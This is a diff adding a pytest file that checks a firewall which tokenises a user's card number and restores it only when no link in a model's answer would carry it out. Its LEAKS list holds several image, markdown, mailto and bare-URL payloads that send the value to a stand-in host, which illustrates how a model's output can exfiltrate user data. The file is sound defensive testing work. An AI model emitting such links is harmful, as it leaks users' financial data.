@@ -1,0 +1,50 @@
+"""If these fail, a link in a model's answer carries a user's data to whoever it leads to."""
+
+import pytest
+
+from firewalls import CARD, Wall, chat, said, streamed
+
+pytestmark = pytest.mark.anyio
+HIDDEN = "<CREDIT_CARD_1>"
+OUT = "https://out.example/?c="
+LEAKS = [
+    f'<img src="{OUT} {HIDDEN}">',
+    f'<img src="{OUT}<https://docs.example> {HIDDEN}">',
+    f"<a href = '{OUT}\n{HIDDEN}'>x</a>",
+    f"[x]({OUT}\t{HIDDEN})",
+    f"[x](<{OUT} {HIDDEN}>)",
+    f"see {OUT}{'a' * 3000}{HIDDEN}",
+    f"www.out.example/?c={HIDDEN}",
+    f"mailto:me@out.example?body={HIDDEN}",
+]
+HARMLESS = [
+    f"pay with {HIDDEN}",
+    f'<b title="{HIDDEN}">{HIDDEN}</b>',
+    f'<a href="{OUT}1">shop</a> took {HIDDEN}',
+    f"[shop]({OUT}1) took {HIDDEN}",
+    f"(see {OUT}1 for {HIDDEN})",
+    f"[card](mailto:{HIDDEN})",
+    f"www.docs.example/?c={HIDDEN}",
+]
+
+
+async def answered(text):
+    """The answer as a whole and as a stream; the session's model knows one card."""
+    wall = Wall(to_model={"financial": "tokenise"}, links=["docs.example"])
+    await wall.request(chat(("user", CARD)))
+    payload = said(text)
+    verdict = await wall.result(chat(), payload)
+    whole = (getattr(verdict, "payload", None) or payload)["choices"][0]["message"]["content"]
+    return whole, streamed(wall.stream(), [text[at : at + 7] for at in range(0, len(text), 7)])[0]
+
+
+@pytest.mark.parametrize("text", LEAKS, ids=range(len(LEAKS)))
+async def test_no_value_goes_out_in_a_link_however_it_is_written(text):
+    for answer in await answered(text):
+        assert CARD not in answer
+        assert HIDDEN in answer
+
+
+@pytest.mark.parametrize("text", HARMLESS, ids=range(len(HARMLESS)))
+async def test_the_user_gets_values_back_beside_links(text):
+    assert await answered(text) == (text.replace(HIDDEN, CARD),) * 2
